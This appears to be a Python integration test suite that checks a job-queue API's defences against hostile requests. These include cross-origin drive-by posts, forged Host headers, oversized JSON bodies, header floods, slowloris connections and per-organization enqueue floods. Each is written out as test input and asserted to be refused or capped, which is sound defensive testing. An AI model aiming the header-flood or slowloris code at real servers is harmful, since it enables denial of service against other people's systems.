"""Issue 12, findings 4 to 12: each hostile request an organization token (or a web page, in
open mode) could send gets the answer the issue asks for, against real PostgreSQL, in-process
or a real `receipt api` process, and `/healthz` keeps answering while the hostile ones run."""

from __future__ import annotations

import asyncio
import json
import logging
import secrets
import socket
import stat
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from prometheus_client import generate_latest

from receipts import operations as ops
from receipts.jobs import Job
from receipts.listen import RECONNECTED, Listener, Notice
from receipts.settings import Settings
from receipts.store import Store
from roles.api.auth import TokenTable, ensure_local_admin_token, load_tokens, parse_lines
from roles.api.sse import FIRST_READ
from tests.integration.api_support import (
    AS_A,
    AS_ADMIN,
    AS_B,
    TOKEN_A,
    HealthProbe,
    RunningApi,
    api_client,
    enqueue_body,
    rid,
    running_api,
)
from tests.integration.helpers import new_id, put, types

HEALTHZ_BOUND_S = 1.0
"""`/healthz` while a hostile body is parsed: no probe may wait a second (the blocking found took
6.6 s); test_api_responsive.py holds the median to the issue's 50 ms under the whole hostile load."""


def assert_error(response: httpx.Response, status: int, code: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    error: dict[str, Any] = response.json()["error"]
    assert error["code"] == code and error["message"]
    return error


@pytest.fixture(scope="module")
def api(db_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningApi]:
    with running_api(
        db_url,
        Path(tmp_path_factory.mktemp("api-security")),
        RECEIPT_SSE_MAX_STREAMS_PER_CALLER="3",
        RECEIPT_SSE_MAX_LIFETIME_S="1.5",
        RECEIPT_SSE_KEEPALIVE_MS="200",
        RECEIPT_API_HEAD_TIMEOUT_MS="1500",
    ) as api:
        yield api


@pytest.fixture(scope="module")
async def client(db_url: str) -> AsyncIterator[httpx.AsyncClient]:
    async with api_client(db_url) as client:
        yield client


# --- finding 4: drive-by requests in open mode ---------------------------------------------


@pytest.fixture
async def open_api(db_url: str) -> AsyncIterator[httpx.AsyncClient]:
    async with api_client(
        db_url, tokens=None, host="127.0.0.1", base_url="http://127.0.0.1:8000"
    ) as client:
        yield client


async def test_open_mode_refuses_a_drive_by_post_from_a_web_page(
    open_api: httpx.AsyncClient, store: Store
) -> None:
    job_id = new_id()
    body = json.dumps(
        enqueue_body(
            org="org-q", jobId=job_id, payload_extra={"task": {"command": ["sh", "-c", "id"]}}
        )
    )
    # The request: text/plain (no CORS preflight) from a foreign origin.
    drive_by = await open_api.post(
        "/agents/codex/jobs",
        content=body,
        headers={"Content-Type": "text/plain", "Origin": "https://evil.example"},
    )
    assert drive_by.status_code in (403, 415)
    assert_error(
        await open_api.post(
            "/agents/codex/jobs", content=body, headers={"Content-Type": "text/plain"}
        ),
        415,
        "unsupported_media_type",
    )
    json_headers = {"Content-Type": "application/json"}
    foreign = await open_api.post(
        "/agents/codex/jobs",
        content=body,
        headers={**json_headers, "Origin": "http://evil.example"},
    )
    assert assert_error(foreign, 403, "forbidden")["field"] == "Origin"
    rebound = await open_api.post(
        "/agents/codex/jobs", content=body, headers={**json_headers, "Host": "evil.example:8000"}
    )
    assert assert_error(rebound, 403, "forbidden")["field"] == "Host"
    assert (await open_api.get("/jobs", headers={"Host": "attacker.test"})).status_code == 403
    assert await store.get_job(rid(job_id, "org-q")) is None
    # The operator's own tools still work: loopback Host, a loopback Origin, JSON.
    allowed = await open_api.post(
        "/agents/codex/jobs",
        content=body,
        headers={**json_headers, "Origin": "http://localhost:8000"},
    )
    assert allowed.status_code == 202, allowed.text


def test_receipt_up_makes_an_admin_token_on_first_start_and_keeps_it(tmp_path: Path) -> None:
    token, tokens_file = ensure_local_admin_token(tmp_path)
    assert len(token) >= 32
    token_file = tmp_path / "api-token"
    for path in (token_file, tokens_file):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    table = load_tokens(tokens_file, None)
    assert not table.open
    principal = table.authenticate(token)
    assert principal is not None and principal.admin
    again, _ = ensure_local_admin_token(tmp_path)
    assert again == token


# --- finding 5: one request freezes the API --------------------------------------------------


def test_a_hostile_body_is_refused_while_healthz_keeps_answering(
    api: RunningApi, store: Store
) -> None:
    huge_key = "k" * 520_000
    compact = {"separators": (",", ":")}
    hostile = [
        # The body: a 520 KB key and a 260k-element list (1 MiB).
        json.dumps({"payload": {"kind": "factory.task.run", huge_key: [0] * 260_000}}, **compact),
        # A long list of short strings, each of which the text check must look at.
        json.dumps(enqueue_body(payload_extra={"items": ["x"] * 240_000}), **compact),
        # Wide objects up to the body limit.
        json.dumps(
            enqueue_body(payload_extra={f"k{i}": {"v": i} for i in range(50_000)}), **compact
        ),
    ]
    timings: list[float] = []
    with HealthProbe(api.url) as probe, httpx.Client(timeout=60) as http:
        time.sleep(0.1)
        for body in hostile:
            assert len(body) <= 1024 * 1024
            started = time.perf_counter()
            response = http.post(
                f"{api.url}/agents/codex/jobs",
                content=body.encode(),
                headers={**AS_A, "Content-Type": "application/json"},
            )
            timings.append(time.perf_counter() - started)
            assert_error(response, 422, "invalid_input")
        time.sleep(0.1)
    print(
        f"hostile bodies answered in {[round(t * 1000) for t in timings]} ms; /healthz worst "
        f"{probe.worst * 1000:.1f} ms over {len(probe.latencies)} probes"
    )
    assert len(probe.latencies) >= 3 and not probe.failures
    assert probe.worst < HEALTHZ_BOUND_S


async def test_a_cancel_reads_no_more_body_than_the_limit(db_url: str) -> None:
    """A cancel's body may be left out, but one that is sent is read under the body limit like
    any other: a stream of blanks is refused (413) after the limit, not read to its end."""
    sent: list[int] = []

    async def blanks() -> AsyncIterator[bytes]:
        for n in range(64):
            sent.append(n)
            yield b" " * 1024

    async with api_client(db_url, max_body_bytes=4096) as c:
        for path in ("/agent-jobs/nope/cancel", "/objectives/nope/cancel"):
            sent.clear()
            response = await c.post(path, content=blanks(), headers=AS_A)
            assert_error(response, 413, "body_too_large")
            assert len(sent) <= 6, (path, len(sent))
            # Blank or left out, the body is optional: then the job is looked for.
            missing = await c.post(path, content=b"  \n", headers=AS_A)
            assert missing.status_code == 404


def test_a_request_head_is_bounded_before_any_token_is_read(api: RunningApi) -> None:
    """Headers are parsed before anything looks at the token: a client without one must not
    make the api hold megabytes of them (httptools sets no limit; the api bounds the head at
    64 KiB). An ordinary long header (a cookie, a traceparent) is still taken."""
    host, port = api.url.removeprefix("http://").rsplit(":", 1)
    pad = b"X-Pad: " + b"a" * 8000 + b"\r\n"
    with socket.create_connection((host, int(port)), timeout=10) as conn:
        conn.sendall(b"GET /jobs HTTP/1.1\r\nHost: localhost\r\n")
        sent = 0
        try:
            for _ in range(1024):  # 8 MiB of headers, unless the api stops reading first
                conn.sendall(pad)
                sent += len(pad)
            conn.sendall(b"\r\n")
            answer = conn.recv(100)
        except OSError:
            answer = b""  # closed on it
    assert not answer.startswith(b"HTTP/1.1 401"), (answer, sent)  # refused before auth
    assert answer.startswith(b"HTTP/1.1 400") or sent < 8 * 1024 * 1024
    ordinary = httpx.get(f"{api.url}/jobs", headers={"X-Long": "b" * 10_000, **AS_A})
    assert ordinary.status_code == 200


def test_a_request_head_must_be_whole_in_time(api: RunningApi) -> None:
    """A connection that sends nothing, or its head a byte at a time, is closed at
    RECEIPT_API_HEAD_TIMEOUT_MS (1.5 s here): uvicorn timed no head, so each such connection
    (slowloris) was held for as long as its client liked, before any token was read."""
    host, port = api.url.removeprefix("http://").rsplit(":", 1)

    def held_for(first: bytes, dribble: bytes) -> tuple[float, bytes]:
        with socket.create_connection((host, int(port)), timeout=10) as conn:
            started = time.monotonic()
            conn.sendall(first)
            answer = b""
            try:
                while time.monotonic() - started < 8:
                    if dribble:
                        conn.sendall(dribble)  # a byte at a time: no idle gap to time out
                    conn.settimeout(0.2)
                    try:
                        answer = conn.recv(200)  # b"": closed
                    except TimeoutError:
                        continue
                    break
            except OSError:
                pass  # closed on it
            return time.monotonic() - started, answer

    silent_s, silent = held_for(b"", b"")
    assert 1.0 < silent_s < 4.0 and silent == b"", (silent_s, silent)
    slow_s, slow = held_for(b"GET /jobs HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", b"a")
    assert 1.0 < slow_s < 4.0, (slow_s, slow)
    assert slow.startswith(b"HTTP/1.1 408"), slow
    # A request whose head comes in time is served, on a kept-alive connection again and again.
    with httpx.Client(base_url=api.url, headers=AS_A) as kept:
        for _ in range(3):
            assert kept.get("/jobs").status_code == 200
            time.sleep(0.8)  # each request's head is timed from its own first byte


def test_the_body_limits_name_what_was_exceeded() -> None:
    from receipts.errors import InvalidInput
    from roles.api.body import JsonLimits, check_shape

    limits = JsonLimits(depth=4, nodes=100, key_chars=8)
    check_shape({"a": [1, 2, {"b": "c"}]}, limits)
    for value, text in [
        ({"k" * 9: 1}, "longer than 8"),
        ({"a": list(range(200))}, "more than 100"),
        ([[[[["deep"]]]]], "deeper than 4"),
    ]:
        with pytest.raises(InvalidInput, match=text):
            check_shape(value, limits)
    with pytest.raises(InvalidInput) as raised:
        check_shape({"a": [{"b": "ok"}, {"c": "nul\x00"}]}, limits)
    assert raised.value.field == "a[1].c"


# --- finding 6: idle event streams slow every enqueue; no cap --------------------------------


async def test_a_notice_reaches_only_the_subscribers_of_its_stream() -> None:
    listener = Listener("postgresql://unused")
    async with listener.subscribe("jobs/target") as target, listener.subscribe() as everything:
        idle = [listener.subscribe(f"jobs/idle-{n}") for n in range(1000)]
        queues = [await cm.__aenter__() for cm in idle]
        listener._publish(Notice("jobs/target", 2, ("job.progress",)))
        assert target.get_nowait().stream == "jobs/target"
        assert everything.get_nowait().stream == "jobs/target"
        assert all(q.empty() for q in queues)
        # A reconnect still reaches every subscriber (each rescans).
        listener._publish(RECONNECTED)
        assert all(q.get_nowait() is RECONNECTED for q in queues)
        for cm in idle:
            await cm.__aexit__(None, None, None)
    assert listener.subscriber_count == 0


async def test_open_streams_are_capped_per_token_and_end_after_their_lifetime(
    api: RunningApi,
) -> None:
    stream_headers = {**AS_A, "Accept": "text/event-stream"}
    async with httpx.AsyncClient(base_url=api.url, timeout=30) as http:
        job_id = (await http.post("/agents/codex/jobs", json=enqueue_body(), headers=AS_A)).json()[
            "job"
        ]["jobId"]
        async with (
            http.stream("GET", f"/jobs/{job_id}/events", headers=stream_headers) as one,
            http.stream("GET", f"/jobs/{job_id}/events", headers=stream_headers) as two,
            http.stream("GET", f"/jobs/{job_id}/events", headers=stream_headers) as three,
        ):
            assert [r.status_code for r in (one, two, three)] == [200] * 3
            refused = await http.get(f"/jobs/{job_id}/events", headers=stream_headers)
            assert_error(refused, 429, "too_many_requests")
            assert int(refused.headers["retry-after"]) >= 1
            # Another token is not held back by this one's streams.
            other = (
                await http.post("/agents/codex/jobs", json=enqueue_body(org="org-b"), headers=AS_B)
            ).json()["job"]["jobId"]
            async with http.stream(
                "GET", f"/jobs/{other}/events", headers={**AS_B, "Accept": "text/event-stream"}
            ) as theirs:
                assert theirs.status_code == 200
            # The job never ends, yet each stream closes after its lifetime (1.5 s here).
            started = time.monotonic()
            text = await asyncio.wait_for(one.aread(), 20)
            assert b"event: end" not in text and b"id: 1" in text
            assert time.monotonic() - started < 15
        # The slots are free again once the streams closed.
        await asyncio.sleep(0.2)
        async with http.stream("GET", f"/jobs/{job_id}/events", headers=stream_headers) as again:
            assert again.status_code == 200


# --- finding 7: commands pile up in the job's state ------------------------------------------


async def test_large_and_numerous_follow_ups_are_refused_and_abort_still_works(
    db_url: str, store: Store
) -> None:
    async with api_client(db_url, max_commands_per_job=5, max_command_bytes=64 * 1024) as client:
        job_id = (
            await client.post("/agents/codex/jobs", json=enqueue_body(), headers=AS_A)
        ).json()["job"]["jobId"]
        big = {"type": "follow_up", "payload": {"text": "x" * 500_000}}
        for _ in range(3):
            response = await client.post(f"/jobs/{job_id}/commands", json=big, headers=AS_A)
            assert assert_error(response, 422, "invalid_input")["field"] == "payload"
        small = {"type": "follow_up", "payload": {"text": "y"}}
        for _ in range(5):
            response = await client.post(f"/jobs/{job_id}/commands", json=small, headers=AS_A)
            assert response.status_code == 202, response.text
        refused = await client.post(f"/jobs/{job_id}/commands", json=small, headers=AS_A)
        assert (
            "RECEIPT_MAX_COMMANDS_PER_JOB" in assert_error(refused, 422, "invalid_input")["message"]
        )
        abort = await client.post(f"/jobs/{job_id}/commands", json={"type": "abort"}, headers=AS_A)
        assert abort.status_code == 202
        shown = (await client.get(f"/jobs/{job_id}", headers=AS_A)).json()
        assert len(shown["commands"]) == 6 and shown["status"] == "canceled"
    assert await types(store, rid(job_id)) == (
        ["job.enqueued"]
        + ["queue.command"] * 6
        + ["queue.command.unconsumed"] * 5
        + ["job.canceled"]
    )


async def test_a_repeated_abort_of_a_running_job_answers_the_first_and_writes_nothing(
    db_url: str, store: Store
) -> None:
    # Aborts were uncapped: each one was appended and kept in the job's state, so a tenant
    # posting them at a running job grew its state and every write of it without bound (1 000
    # aborts of 4 KB: a 4.2 MB state, each abort 28 ms at first and 374 ms by the last).
    async with api_client(db_url) as client:
        job_id = (
            await client.post("/agents/codex/jobs", json=enqueue_body(), headers=AS_A)
        ).json()["job"]["jobId"]
        started = await ops.start_attempt(
            store, rid(job_id), attempt=1, worker_id="w-abort", lease_ms=60_000
        )
        assert started.ok
        abort = {"type": "abort", "reason": "r" * 4000}
        answers = [
            await client.post(f"/jobs/{job_id}/commands", json=abort, headers=AS_A)
            for _ in range(20)
        ]
        assert {a.status_code for a in answers} == {202}
        assert len({a.json()["commandId"] for a in answers}) == 1
        assert [c["type"] for c in answers[-1].json()["job"]["commands"]] == ["abort"]
    written = await types(store, rid(job_id))
    assert written == ["job.enqueued", "job.leased", "job.heartbeat", "queue.command"]


async def test_steers_absorbed_by_enqueue_are_capped_too(db_url: str, store: Store) -> None:
    session = new_id("session")
    async with api_client(db_url, max_commands_per_job=2, max_command_bytes=1024) as client:

        async def steer(**extra: Any) -> httpx.Response:
            body = enqueue_body(sessionKey=session, singletonMode="steer", **extra)
            return await client.post("/agents/codex/jobs", json=body, headers=AS_A)

        job_id = (await steer()).json()["job"]["jobId"]  # no active job yet: created
        big = await steer(payload_extra={"text": "x" * 5000})
        assert assert_error(big, 422, "invalid_input")["field"] == "payload"
        assert [(await steer()).json()["outcome"] for _ in range(2)] == ["steered"] * 2
        full = await steer()
        assert "RECEIPT_MAX_COMMANDS_PER_JOB" in assert_error(full, 422, "invalid_input")["message"]
    assert await types(store, rid(job_id)) == ["job.enqueued"] + ["queue.command"] * 2


async def test_list_and_event_pages_stop_at_the_response_byte_cap(db_url: str) -> None:
    agent = new_id("agent")
    async with api_client(db_url, max_response_bytes=4096) as client:
        blob = "z" * 1500
        ids = []
        for _ in range(5):
            response = await client.post(
                f"/agents/{agent}/jobs",
                json=enqueue_body(payload_extra={"blob": blob}),
                headers=AS_A,
            )
            ids.append(response.json()["job"]["jobId"])
        seen: list[str] = []
        cursor: str | None = None
        pages = 0
        while True:
            params = {"agentId": agent, "limit": "50", **({"cursor": cursor} if cursor else {})}
            response = await client.get("/jobs", params=params, headers=AS_A)
            assert response.status_code == 200
            assert len(response.content) <= 4096 + 3000  # one job may pass the budget alone
            page = response.json()
            seen += [job["jobId"] for job in page["jobs"]]
            pages += 1
            cursor = page["nextCursor"]
            if cursor is None:
                break
        assert seen == ids[::-1] and pages > 1
        job_id = ids[0]
        for n in range(4):
            steer = {"type": "steer", "payload": {"n": n, "blob": blob}}
            assert (
                await client.post(f"/jobs/{job_id}/commands", json=steer, headers=AS_A)
            ).status_code == 202
        first = (await client.get(f"/jobs/{job_id}/events", headers=AS_A)).json()
        assert 0 < len(first["receipts"]) < 5
        rest = (
            await client.get(
                f"/jobs/{job_id}/events", params={"after": first["lastSeq"]}, headers=AS_A
            )
        ).json()
        assert rest["receipts"][0]["seq"] == first["lastSeq"] + 1


async def test_an_events_page_reads_about_the_receipts_it_shows_not_its_limit(
    db_url: str, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A page of large receipts read `limit` of them whatever the byte cap kept: an hour of a
    command's output (7 000 progress receipts of 8 KB) was read whole for a 4 MiB page of 513,
    the event loop held ~0.9 s by each such GET, every organization's requests with it."""
    async with api_client(db_url, store=store, max_response_bytes=16 * 1024) as client:
        job_id = (
            await client.post("/agents/codex/jobs", json=enqueue_body(), headers=AS_A)
        ).json()["job"]["jobId"]
        started = await ops.start_attempt(
            store, rid(job_id), attempt=1, worker_id="w-out", lease_ms=60_000
        )
        assert started.ok
        for n in range(400):
            output = {"output": f"{n:04d}" + "o" * 2000}
            assert (
                await ops.progress(store, rid(job_id), worker_id="w-out", attempt=1, data=output)
            ).ok
        read: list[int] = []
        real = store.read_stream

        async def counted(stream: str, after_seq: int = 0, limit: int = 10_000) -> list[Any]:
            batch = await real(stream, after_seq, limit)
            read.append(len(batch))
            return batch

        monkeypatch.setattr(store, "read_stream", counted)
        seqs: list[int] = []
        after = 0
        while True:
            read.clear()
            page = (
                await client.get(
                    f"/jobs/{job_id}/events",
                    params={"after": after, "limit": 10_000},
                    headers=AS_A,
                )
            ).json()
            if not page["receipts"]:
                break
            assert sum(read) <= len(page["receipts"]) + FIRST_READ, (read, len(page["receipts"]))
            seqs += [r["seq"] for r in page["receipts"]]
            after = page["lastSeq"]
    assert seqs == list(range(1, 404))


async def test_an_events_page_whose_first_receipt_is_over_the_byte_cap_still_holds_it(
    db_url: str,
) -> None:
    """A page ends before the byte cap but holds at least one receipt: a receipt larger than
    the cap alone is shown on its own page (an empty page would never move `after` on)."""
    agent = new_id("agent")
    async with api_client(db_url, max_response_bytes=4096) as client:
        made = await client.post(
            f"/agents/{agent}/jobs",
            json=enqueue_body(payload_extra={"blob": "z" * 6000}),
            headers=AS_A,
        )
        job_id = made.json()["job"]["jobId"]
        page = (await client.get(f"/jobs/{job_id}/events", headers=AS_A)).json()
        assert [r["type"] for r in page["receipts"]] == ["job.enqueued"]
        assert page["lastSeq"] == page["receipts"][0]["seq"]


async def test_agent_job_and_schedule_lists_stop_at_the_response_byte_cap_too(
    db_url: str,
) -> None:
    """Every list pages by bytes as well as by count: items with large fields (a long prompt,
    a schedule's job) end a page early and its cursor goes on after the last one shown."""
    session = new_id("session")
    blob = "z" * 1500
    async with api_client(db_url, max_response_bytes=4096, schedule_min_interval_s=1) as client:
        made_jobs, made_schedules = [], []
        for _ in range(5):
            body = {**agent_job_body(), "ownerSessionId": session, "input": {"prompt": blob}}
            made = await client.post("/agent-jobs", json=body, headers=AS_A)
            assert made.status_code == 201, made.text
            made_jobs.append(made.json()["agentJob"]["agentJobId"])
            schedule = {
                "scheduleId": new_id("sch"),
                "interval": "1h",
                "agentId": "codex",
                "job": enqueue_body(payload_extra={"task": {"command": ["true"]}, "blob": blob}),
            }
            created = await client.post("/schedules", json=schedule, headers=AS_A)
            assert created.status_code == 201, created.text
            made_schedules.append(created.json()["scheduleId"])
        for path, key, id_key, made in [
            (f"/sessions/{session}/agent-jobs", "agentJobs", "agentJobId", made_jobs),
            ("/schedules", "schedules", "scheduleId", made_schedules),
        ]:
            seen: list[str] = []
            cursor: str | None = None
            pages = 0
            while True:
                params = {"limit": "50", **({"cursor": cursor} if cursor else {})}
                response = await client.get(path, params=params, headers=AS_A)
                assert response.status_code == 200, response.text
                assert len(response.content) <= 4096 + 3000  # one item may pass it alone
                page = response.json()
                seen += [item[id_key] for item in page[key]]
                pages += 1
                cursor = page["nextCursor"]
                if cursor is None:
                    break
            assert [i for i in seen if i in made] == made[::-1] and pages > 1, path
        too_long = {**agent_job_body(), "replyRoute": {"binding": "b", "channel": "c" * 1001}}
        refused = await client.post("/agent-jobs", json=too_long, headers=AS_A)
        assert refused.status_code == 422
        assert refused.json()["error"]["field"] == "replyRoute.channel"


# --- finding 8: no per-organization limits ----------------------------------------------------


async def test_an_organization_is_capped_on_queued_jobs_and_rate_and_timeout(
    db_url: str, store: Store
) -> None:
    org, neighbour = new_id("org"), new_id("org")
    token = f"token-{org}"
    tokens = f"{token} {org}\ntoken-{neighbour} {neighbour}\n{TOKEN_A} org-a"
    as_org = {"Authorization": f"Bearer {token}"}
    as_neighbour = {"Authorization": f"Bearer token-{neighbour}"}
    long_job = enqueue_body(
        org=org, payload_extra={"task": {"command": ["sleep", "3600"]}, "timeoutMs": 3_600_000}
    )
    async with api_client(db_url, tokens=tokens, org_max_queued=20, max_timeout_ms=60_000) as c:
        accepted = 0
        refused: httpx.Response | None = None
        for _ in range(2000):
            response = await c.post("/agents/codex/jobs", json=long_job, headers=as_org)
            if response.status_code != 202:
                refused = response
                break
            accepted += 1
        assert accepted == 20 and refused is not None
        assert (
            "RECEIPT_ORG_MAX_QUEUED" in assert_error(refused, 429, "too_many_requests")["message"]
        )
        assert int(refused.headers["retry-after"]) >= 1
        # Another organization is not held back.
        other = await c.post(
            "/agents/codex/jobs", json=enqueue_body(org=neighbour), headers=as_neighbour
        )
        assert other.status_code == 202
        # The operator's timeout cap: an hour asked, a minute kept.
        listed = (await c.get("/jobs", params={"limit": "1"}, headers=as_org)).json()["jobs"]
        assert listed[0]["payload"]["timeoutMs"] == 60_000
    async with api_client(db_url, tokens=tokens, org_enqueue_rate=0.5, org_enqueue_burst=3) as c:
        statuses = [
            (await c.post("/agents/codex/jobs", json=enqueue_body(), headers=AS_A)).status_code
            for _ in range(4)
        ]
        assert statuses == [202, 202, 202, 429]
        limited = await c.post("/agents/codex/jobs", json=enqueue_body(), headers=AS_A)
        assert (
            "RECEIPT_ORG_ENQUEUE_RATE" in assert_error(limited, 429, "too_many_requests")["message"]
        )
        assert int(limited.headers["retry-after"]) >= 1


async def test_a_refusal_over_the_rate_is_held_until_the_next_token_and_holds_are_bounded(
    db_url: str,
) -> None:
    """A flood client that posts again the moment it is refused is answered no faster than its
    organization's next token (not hundreds of refusals a second on the event loop every
    organization shares), at most RECEIPT_RATE_REFUSALS_HELD_MAX at once: past that a refusal
    is answered at once. A held refusal takes no token: the next post after it is admitted, and
    it is not timed as the route's latency."""
    from receipts import metrics

    org = new_id("org")
    tokens = f"token-{org} {org}"
    as_org = {"Authorization": f"Bearer token-{org}"}
    held = metrics.API_REFUSALS_HELD
    timed = metrics.API_REQUEST_DURATION.labels("/agents/{agentId}/jobs", "POST")
    timed_before = sum(b.get() for b in timed._buckets)
    settings = {"rate_refusal_hold_ms": 60_000, "rate_refusals_held_max": 2}
    async with api_client(
        db_url, tokens=tokens, org_enqueue_rate=0.5, org_enqueue_burst=1, **settings
    ) as c:

        async def post() -> httpx.Response:
            return await c.post("/agents/codex/jobs", json=enqueue_body(org=org), headers=as_org)

        assert (await post()).status_code == 202  # the burst; the next token is due in 2 s
        started = time.monotonic()
        posts = [asyncio.create_task(post()) for _ in range(5)]
        answered, holding = await asyncio.wait(posts, timeout=1.0)
        # Two held (the cap), three refused at once; the held two are still unanswered.
        assert (len(answered), len(holding), held._value.get()) == (3, 2, 2)
        for refused in answered:
            assert (
                "RECEIPT_ORG_ENQUEUE_RATE"
                in assert_error(refused.result(), 429, "too_many_requests")["message"]
            )
        await asyncio.gather(*holding)
        waited = time.monotonic() - started
        assert held._value.get() == 0
        for refused in holding:
            assert refused.result().status_code == 429
        # Held until the next token was due (2 s after the burst), not the hold's 60 s cap.
        assert 1.5 <= waited < 30, waited
        assert (await post()).status_code == 202  # the held refusals took no token
    # The two admitted posts are timed; the five refusals (two held 2 s) are not the route's
    # latency: counted in receipt_api_requests_total only.
    assert sum(b.get() for b in timed._buckets) == timed_before + 2


async def test_an_organization_at_its_cap_still_gets_its_existing_job_and_its_steers(
    db_url: str, store: Store
) -> None:
    """The spec: re-posting an enqueue with the same jobId "never creates a second job", so it is
    safely retryable; a caps refusal is for a job that would be created, not for a re-post (nor a
    steer, which creates none). A singleton cancel frees the place of the job it cancels."""
    org = new_id("org")
    tokens = f"token-{org} {org}"
    as_org = {"Authorization": f"Bearer token-{org}"}
    session = new_id("session")
    first = enqueue_body(org=org, jobId=new_id(), sessionKey=session)
    async with api_client(db_url, tokens=tokens, org_max_queued=1) as c:
        created = await c.post("/agents/codex/jobs", json=first, headers=as_org)
        assert created.status_code == 202 and created.json()["outcome"] == "created"
        job_id = created.json()["job"]["jobId"]
        again = await c.post("/agents/codex/jobs", json=first, headers=as_org)
        assert again.status_code == 202, again.text
        assert again.json()["outcome"] == "existing" and again.json()["job"]["jobId"] == job_id
        keyed = {**as_org, "Idempotency-Key": new_id("key")}
        another = enqueue_body(org=org)
        refused = await c.post("/agents/codex/jobs", json=another, headers=keyed)
        assert (
            "RECEIPT_ORG_MAX_QUEUED" in assert_error(refused, 429, "too_many_requests")["message"]
        )
        steer = enqueue_body(org=org, sessionKey=session, singletonMode="steer")
        steered = await c.post("/agents/codex/jobs", json=steer, headers=as_org)
        assert steered.status_code == 202, steered.text
        assert steered.json()["outcome"] == "steered"
        assert steered.json()["job"]["jobId"] == job_id
        # A cancel mode post replaces the queued job: one queued before, one after.
        cancel = enqueue_body(org=org, sessionKey=session, singletonMode="cancel")
        replaced = await c.post("/agents/codex/jobs", json=cancel, headers=as_org)
        assert replaced.status_code == 202, replaced.text
        assert replaced.json()["outcome"] == "created"
    assert await types(store, rid(job_id, org)) == [
        "job.enqueued",
        "queue.command",
        "queue.command.unconsumed",
        "job.canceled",
    ]
    new_job = rid(replaced.json()["job"]["jobId"], org)
    assert await types(store, new_job) == ["job.enqueued"]


def agent_job_body() -> dict[str, Any]:
    return {
        "agentId": "helper",
        "ownerSessionId": new_id("session"),
        "sourceActorEventId": "event-1",
        "sourceToolCallId": new_id("tool"),
        "replyRoute": {"binding": "slack", "channel": "C1"},
        "input": {"prompt": "go"},
    }


async def test_a_steer_takes_the_organizations_rate_and_an_abort_does_not(db_url: str) -> None:
    """A steer posted as a command took no token while the same steer posted as an enqueue
    (`singletonMode: steer`) did: a real api took 156 steers a second from one organization's
    12 connections, and another organization's enqueue p50 went from 6.7 to 41.9 ms."""
    org = new_id("org")
    tokens = f"token-{org} {org}"
    as_org = {"Authorization": f"Bearer token-{org}"}
    async with api_client(db_url, tokens=tokens, org_enqueue_rate=1e-6, org_enqueue_burst=2) as c:
        made = await c.post("/agents/codex/jobs", json=enqueue_body(org=org), headers=as_org)
        job_id = made.json()["job"]["jobId"]
        commands = f"/jobs/{job_id}/commands"
        steer = {"type": "steer", "payload": {"text": "s"}}
        assert (await c.post(commands, json=steer, headers=as_org)).status_code == 202
        for body in (steer, {"type": "follow_up", "payload": {"text": "f"}}):
            limited = await c.post(commands, json=body, headers=as_org)
            assert (
                "RECEIPT_ORG_ENQUEUE_RATE"
                in assert_error(limited, 429, "too_many_requests")["message"]
            )
        abort = await c.post(commands, json={"type": "abort"}, headers=as_org)
        assert abort.status_code == 202 and abort.json()["job"]["status"] == "canceled"


async def test_an_organizations_bodies_being_read_are_bounded_not_anothers(db_url: str) -> None:
    """A body that stops short of its end held what it sent for as long as its connection
    stayed: a real api grew by 311 MB under 300 command bodies of one organization stalled
    1 KiB short of 1 MiB, and kept it. Past RECEIPT_ORG_BODY_BYTES_IN_FLIGHT the organization's
    next body is 429; another organization's is read."""
    released = asyncio.Event()

    async def stalled() -> AsyncIterator[bytes]:
        yield b'{"type": "steer", "payload": {"t": "' + b"x" * 60_000
        await released.wait()
        yield b'"}}'

    async with api_client(db_url, org_body_bytes_in_flight=100_000) as client:
        job_id = (
            await client.post("/agents/codex/jobs", json=enqueue_body(), headers=AS_A)
        ).json()["job"]["jobId"]
        other = (
            await client.post("/agents/codex/jobs", json=enqueue_body(org="org-b"), headers=AS_B)
        ).json()["job"]["jobId"]
        held = asyncio.create_task(
            client.post(f"/jobs/{job_id}/commands", content=stalled(), headers=AS_A)
        )
        await asyncio.sleep(0.2)  # its first 60 KB are read, the rest never comes
        steer = {"type": "steer", "payload": {"t": "y" * 50_000}}
        refused = await client.post(f"/jobs/{job_id}/commands", json=steer, headers=AS_A)
        error = assert_error(refused, 429, "too_many_requests")
        assert "RECEIPT_ORG_BODY_BYTES_IN_FLIGHT" in error["message"]
        admitted = await client.post(f"/jobs/{other}/commands", json=steer, headers=AS_B)
        assert admitted.status_code == 202, admitted.text
        released.set()
        assert (await held).status_code == 202
        again = await client.post(f"/jobs/{job_id}/commands", json=steer, headers=AS_A)
        assert again.status_code == 202, again.text


async def test_every_way_to_make_jobs_takes_the_organizations_rate_and_caps(
    db_url: str, store: Store
) -> None:
    """An objective, an agent job and a retry make work as an enqueue does: each takes one of
    the organization's enqueue tokens, and what they create counts against its caps."""
    from receipts import operations

    org = new_id("org")
    tokens = f"token-{org} {org}"
    as_org = {"Authorization": f"Bearer token-{org}"}
    objective = {"title": "t", "goal": "g", "tasks": [{"taskId": "t", "input": {"prompt": "p"}}]}
    async with api_client(db_url, tokens=tokens, org_enqueue_rate=1e-6, org_enqueue_burst=2) as c:
        made = [
            await c.post("/agents/codex/jobs", json=enqueue_body(org=org), headers=as_org)
            for _ in range(2)
        ]
        assert [m.status_code for m in made] == [202, 202]
        for path, body in [
            ("/objectives", objective),
            ("/agent-jobs", agent_job_body()),
            ("/jobs/retry", {"agentId": "codex"}),
            (f"/jobs/{made[0].json()['job']['jobId']}/retry", None),
        ]:
            limited = await c.post(path, json=body, headers=as_org)
            assert (
                "RECEIPT_ORG_ENQUEUE_RATE"
                in assert_error(limited, 429, "too_many_requests")["message"]
            ), path
    # Two queued jobs: at a cap of two, nothing more is created whichever way it is asked for.
    failed = rid(made[0].json()["job"]["jobId"], org)
    assert (await operations.fail_undeliverable(store, failed, error="x")).ok  # one queued now
    async with api_client(db_url, tokens=tokens, org_max_queued=2) as c:
        retried = await c.post(f"/jobs/{made[0].json()['job']['jobId']}/retry", headers=as_org)
        assert retried.status_code == 201, retried.text  # back to two queued
        refused = await c.post("/objectives", json=objective, headers=as_org)
        assert (
            "RECEIPT_ORG_MAX_QUEUED" in assert_error(refused, 429, "too_many_requests")["message"]
        )
